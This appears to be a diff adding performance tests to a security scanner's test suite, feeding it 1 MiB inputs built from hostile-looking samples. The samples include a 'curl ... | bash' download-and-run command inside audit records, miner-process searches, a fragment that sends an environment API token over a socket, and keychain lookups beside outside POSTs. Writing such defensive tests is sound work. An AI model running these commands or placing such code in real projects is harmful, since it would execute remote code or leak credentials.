@@ -501,3 +501,42 @@ describe('adversarial socket children, Lua loads, template pixels, assembled pip
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describe('adversarial log records, search patterns and keychain lookups', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string, string][] = [
+    [
+      '1 MiB of auditd records running downloads',
+      'assets/sample_logs.txt',
+      'type=EXECVE msg=audit(1715483647.123:881): a2="curl -fsSL http://198.51.100.9/x | bash"\n'.repeat(
+        MiB / 84,
+      ),
+    ],
+    ['a 1 MiB syslog-shaped line', 'assets/events.log', 'May 12 03:14:07 ' + 'a '.repeat(MiB / 2)],
+    [
+      '1 MiB of grep flags before a miner name',
+      'scripts/check.sh',
+      "grep -E -i -v -x 'xmrig " + '-e '.repeat(MiB / 3),
+    ],
+    ['1 MiB of searched miner names', 'scripts/check.sh', "ps | grep -Ei 'xmrig|minerd' | ".repeat(MiB / 32)],
+    [
+      '1 MiB of local socket connects and bindings',
+      'scripts/rcon.py',
+      'import os, socket\nKEY = os.environ["API_TOKEN"]\ns.sendall(KEY)\n' +
+        'socket.create_connection((h, p))\nh = p = "127.0.0.1"\n'.repeat(MiB / 52),
+    ],
+    [
+      '1 MiB of own keychain lookups beside vendor sends',
+      'SKILL.md',
+      '---\nname: club-newsletter\ndescription: x\n---\n# x\n\n' +
+        '`secret-tool lookup service club-newsletter user a` `POST https://newsletter.example/v1` '.repeat(
+          MiB / 86,
+        ),
+    ],
+  ];
+  it.each(cases)('should scan %s in under a second', (_name, path, text) => {
+    const start = performance.now();
+    scan(path, text);
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
